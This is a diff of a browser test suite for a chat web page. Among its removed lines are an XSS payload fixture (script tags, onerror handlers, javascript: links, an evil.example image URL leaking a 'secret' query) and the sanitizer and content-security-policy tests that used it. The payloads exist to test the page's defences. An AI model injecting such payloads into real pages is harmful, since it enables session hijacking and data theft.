@@ -1,122 +1,15 @@
-"""The chat page in a real browser, against a real server.
-
-The model is tiny and random, so where the words matter a grammar makes it say them: the page's own
-request gets `structured_outputs` on its way. No test may leave an error in the console, or ask any
-host but the server for anything.
-"""
+"""What people do on the chat page."""
 
 import json
 import re
-import shutil
-import time
-from collections.abc import Iterator
-from typing import Any
 
 import pytest
 
-from opennemo.serve.app import PAGE_POLICY, WEB
-from opennemo.serve.errors import Refusal
-
-sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
-expect = sync_api.expect
-CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "google-chrome"))), None)
-pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium: make browser")
-with_libraries = pytest.mark.skipif(
-    not (WEB / "vendor").is_dir(), reason="the page's libraries are not there: make test fetches"
-)
-FLAGS = [
-    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
-    "--disable-sync", "--disable-background-networking", "--disable-component-update",
-    "--disable-dev-shm-usage",
-]  # fmt: skip
+expect = pytest.importorskip("playwright.sync_api").expect
 LONG = {"ignore_eos": True, "max_tokens": 3500}
 
 
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Any]:
-    with sync_api.sync_playwright() as playwright:
-        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
-        yield browser
-        browser.close()
-
-
-class Chat:
-    """The page, and what goes between it and the server."""
-
-    def __init__(self, page: Any, server: Any):
-        self.page, self.server, self.url = page, server, f"{server.url}/"
-        self.bodies: list[dict[str, Any]] = []  # of requests for answers, as the page sent them
-        self.extra: dict[str, Any] = {}  # what they get besides
-        self.foreign: list[str] = []
-        self.complaints: list[str] = []
-        page.context.on("request", self._on_request)
-        page.on("console", lambda m: m.type == "error" and self.complaints.append(m.text))
-        page.on("pageerror", lambda error: self.complaints.append(str(error)))
-        page.on("dialog", lambda dialog: (self.complaints.append("a dialog"), dialog.dismiss()))
-        page.route("**/v1/chat/completions", self._on_answer)
-
-    def _on_request(self, request: Any) -> None:
-        if not request.url.startswith((self.url, "blob:")):
-            self.foreign.append(request.url)
-
-    def _on_answer(self, route: Any) -> None:
-        body = json.loads(route.request.post_data)
-        self.bodies.append(body)
-        route.continue_(post_data=json.dumps(body | self.extra))
-
-    def open(self, key: str | None = "the server's") -> "Chat":
-        if key:
-            self.page.add_init_script(f"sessionStorage.setItem('key', '{self.server.key}')")
-        self.page.goto(self.url)
-        if key:
-            expect(self.page.locator("#model option")).to_be_attached()
-        return self
-
-    def ask(self, text: str, answer: str | None = None) -> None:
-        """Send a message; `answer` is what the model shall say to it."""
-        if answer is not None:
-            self.extra = {"structured_outputs": {"choice": [answer]}}
-        self.page.fill("#draft", text)
-        self.page.press("#draft", "Enter")
-        self.wait()
-
-    def wait(self) -> None:
-        expect(self.page.locator("#send")).to_be_visible(timeout=20_000)
-
-    def wait_until_idle(self) -> None:
-        while self.server.service.active:
-            time.sleep(0.01)
-
-    def settings(self, **values: str) -> None:
-        self.page.click("#show-settings")
-        for name, value in values.items():
-            field = self.page.locator(f"[name={name}]")
-            field.select_option(value) if name == "toolChoice" else field.fill(value)
-        self.page.click("#show-settings")
-
-    def take(self, conversation: Any) -> None:
-        """Import a conversation."""
-        file = {
-            "name": "a.json",
-            "mimeType": "application/json",
-            "buffer": json.dumps(conversation).encode(),
-        }
-        self.page.set_input_files("#file", file)
-
-
-@pytest.fixture
-def chat(browser, server) -> Iterator[Chat]:
-    context = browser.new_context(viewport={"width": 1200, "height": 800}, reduced_motion="reduce")
-    context.set_default_timeout(10_000)
-    chat = Chat(context.new_page(), server)
-    yield chat
-    context.close()
-    assert not chat.foreign, "the page asked other hosts"
-    assert not chat.complaints
-    chat.wait_until_idle()  # what was still being answered is given up with the page
-
-
-@with_libraries
+@pytest.mark.usefixtures("libraries")
 def test_answers_are_shown_as_markdown(chat):
     page = chat.open().page
     code = "def f(x):\n    return x < 1 & 2"
@@ -154,6 +47,17 @@ def test_an_answer_streams_and_stopping_ends_the_work_of_the_server(chat):
         chat.wait_until_idle()
     assert page.locator(".assistant .error").count() == 0
     expect(page.locator("#draft")).to_be_focused()
+
+    chat.extra = LONG
+    page.fill("#draft", "Go on while I look elsewhere")
+    page.press("#draft", "Enter")
+    page.click("#new")
+    expect(page.locator("#conversations .running")).to_have_count(1)
+    page.fill("#draft", "a draft")
+    page.locator("#conversations .open").click()
+    expect(page.locator("#draft")).to_have_value("")
+    page.click("#stop")
+    expect(page.locator("#conversations .running")).to_have_count(0)
 
 
 def test_versions_of_answers_and_messages(chat):
@@ -362,97 +266,6 @@ def test_an_export_is_a_request_and_comes_back_the_same(chat):
     expect(page.locator("#conversations .open")).to_have_count(3)
 
 
-HOSTILE = """<script>window.pwned = 1</script><img src=x onerror="window.pwned = 1">
-<img src="https://evil.example/track.png"><iframe src="https://evil.example"></iframe>
-
-![an image](https://evil.example/leak.png?q=secret)
-[a link](javascript:window.pwned=1) [data](data:text/html,<script>pwned=1</script>)
-[twice](&#106;avascript:window.pwned=1) [ok](https://good.example/)
-
-<svg onload="window.pwned = 1"><style>body { display: none }</style><a href="javascript:1">x</a>
-<form action="https://evil.example"><input name=a><button>b</button></form>
-
-| a |
-|---|
-| <img src=x onerror=pwned=1> |
-
-```"><img src=x onerror=pwned=1>
-</code><script>window.pwned = 1</script>
-```"""
-
-
-def inert(chat: Chat) -> None:
-    page = chat.page
-    assert page.evaluate("window.pwned === undefined && !document.body.matches('[onload]')")
-    for name in ("script", "img", "iframe", "svg", "style", "form", "input", "object"):
-        assert page.locator(f".markdown {name}:not(button svg)").count() == 0, name
-    links = page.locator("#thread a[href]").evaluate_all("all => all.map(a => [a.href, a.rel])")
-    assert all(re.match("https?://", href) and "noopener" in rel for href, rel in links)
-    for text in ("<script>window.pwned = 1</script>", 'onerror="window.pwned = 1"', "<iframe"):
-        expect(page.locator(".assistant .body")).to_contain_text(text)
-    assert not chat.foreign
-
-
-@with_libraries
-def test_hostile_answers_do_nothing(chat):
-    page = chat.open().page
-    chat.ask("<img src=x onerror=pwned=1>", HOSTILE)
-    inert(chat)
-    assert page.get_by_role("link", name="ok").get_attribute("href") == "https://good.example/"
-    page.wait_for_timeout(500)
-    page.reload()
-    inert(chat)
-    page.get_by_label("Token view").click()
-    chat.ask("Again", "<img src=x onerror=pwned=1>")
-    expect(page.locator(".tokens")).to_contain_text("<img src=x")
-    assert page.evaluate("window.pwned === undefined")
-
-
-def test_hostile_files_do_nothing(chat):
-    page = chat.open().page
-    call = {"function": {"name": "<img src=x onerror=pwned=1>", "arguments": "<script>1</script>"}}
-    messages = [
-        {"role": "user", "content": HOSTILE},
-        {"role": "assistant", "content": HOSTILE, "tool_calls": [call]},
-        {"role": "tool", "name": "<img src=x>", "content": HOSTILE},
-        {"role": "assistant", "content": HOSTILE},
-    ]
-    chat.take({"messages": messages, "metadata": {"title": "<img src=x onerror=pwned=1>"}})
-    expect(page.locator("#title")).to_have_text("<img src=x onerror=pwned=1>")
-    expect(page.locator("article")).to_have_count(4)
-    assert page.locator("#thread img, #thread script, #conversations img").count() == 0
-    assert page.evaluate("window.pwned === undefined")
-
-
-def test_the_policy_would_stop_what_came_past_the_sanitizer(chat):
-    page = chat.open().page
-    assert "unsafe" not in PAGE_POLICY and "http" not in PAGE_POLICY
-    assert page.goto(chat.url).headers["content-security-policy"] == PAGE_POLICY
-    refused = page.evaluate(
-        """() => { try { document.body.innerHTML = "<b>x</b>"; } catch (e) { return e.name; } }"""
-    )
-    assert refused == "TypeError"
-    failures = []
-    page.on("requestfailed", lambda request: failures.append((request.url, request.failure)))
-    page.evaluate(
-        """() => {
-            const image = new Image();
-            image.src = "https://evil.example/x.png";
-            const script = document.createElement("script");
-            try { script.text = "window.pwned = 1"; } catch { script.append("window.pwned = 1"); }
-            document.body.append(image, script);
-        }"""
-    )
-    page.wait_for_timeout(200)
-    assert page.evaluate("window.pwned === undefined")
-    assert failures == [("https://evil.example/x.png", "csp")]
-    chat.foreign.clear()  # it was tried, and stopped in the browser
-    assert chat.complaints and all(
-        "Content Security" in c or "Trusted" in c for c in chat.complaints
-    )
-    chat.complaints.clear()
-
-
 @pytest.mark.parametrize("width", [390, 320])
 def test_a_phone_is_wide_enough(chat, width):
     page = chat.page
@@ -485,7 +298,7 @@ def test_a_phone_is_wide_enough(chat, width):
     expect(page.locator("#scrim")).to_be_hidden()
 
 
-@with_libraries
+@pytest.mark.usefixtures("libraries")
 def test_arabic_runs_from_right_to_left(chat):
     page = chat.open().page
     arabic = "عاصمة فرنسا هي **باريس**."
@@ -535,73 +348,6 @@ def test_the_keyboard_is_enough(chat):
         .map((e) => e.outerHTML)"""
     )
     assert not nameless
-
-
-def test_a_key_is_asked_for_and_kept_as_wanted(chat):
-    page = chat.open(key=None).page
-    dialog = page.get_by_role("dialog", name="API key")
-    expect(dialog).to_contain_text("asks for one")
-    page.fill("#key", "not-the-key")
-    page.keyboard.press("Enter")
-    expect(dialog).to_contain_text("does not know this key")
-    page.keyboard.press("Escape")
-    expect(page.locator("#notice")).to_contain_text("no valid API key")
-    page.click("text=Enter a key")
-    page.fill("#key", chat.server.key)
-    page.click("text=Use it")
-    expect(page.locator("#model option")).to_be_attached()
-    expect(page.locator("#notice")).to_be_hidden()
-    chat.ask("Hi", "Hello")
-    expect(page.locator(".assistant .body")).to_have_text("Hello")
-    where = "() => [sessionStorage.getItem('key'), localStorage.getItem('key')]"
-    assert page.evaluate(where) == [chat.server.key, None]
-    page.get_by_role("button", name="API key").click()
-    page.fill("#key", chat.server.key)
-    page.check("#key-keep")
-    page.click("text=Use it")
-    assert page.evaluate(where) == [None, chat.server.key]
-    page.get_by_role("button", name="API key").click()
-    page.click("text=Forget")
-    assert page.evaluate(where) == [None, None]
-    assert all("401" in complaint for complaint in chat.complaints)
-    chat.complaints.clear()
-
-
-def test_errors_stand_where_they_happen_and_can_be_retried(chat):
-    page = chat.open().page
-    chat.extra = {"temperature": 77}
-    chat.ask("Hi")
-    error = page.locator(".assistant .error")
-    expect(error).to_contain_text("temperature")
-    chat.extra = {"structured_outputs": {"choice": ["Hello"]}}
-    page.click("text=Try again")
-    chat.wait()
-    expect(page.locator("article .body")).to_have_text(["Hi", "Hello"])
-    expect(error).to_have_count(0)
-    expect(page.get_by_role("group", name="Versions")).to_have_count(0)
-
-    chat.extra = LONG
-    page.fill("#draft", "On")
-    page.press("#draft", "Enter")
-    expect(page.locator(".running .stats")).to_contain_text("tokens")
-    for generation in list(chat.server.service.active):
-        generation.abort(Refusal(503, "the server is shutting down", "service_unavailable"))
-    expect(error).to_contain_text("shutting down")
-    expect(page.locator(".assistant .markdown").last).not_to_be_empty()  # what came stays
-
-    page.route("**/v1/chat/completions", lambda route: route.abort())
-    page.click("text=Try again")
-    expect(error).to_contain_text("does not answer")
-    chat.complaints.clear()
-
-
-def test_it_works_without_the_libraries(chat):
-    chat.page.route("**/vendor/*", lambda route: route.fulfill(status=404))
-    page = chat.open().page
-    chat.ask("Hi", "**As** it <b>is</b>\n\n    x")
-    expect(page.locator(".markdown.plain")).to_have_text("**As** it <b>is</b>\n\n    x")
-    assert all("404" in complaint for complaint in chat.complaints)
-    chat.complaints.clear()
 
 
 def test_light_and_dark(chat):
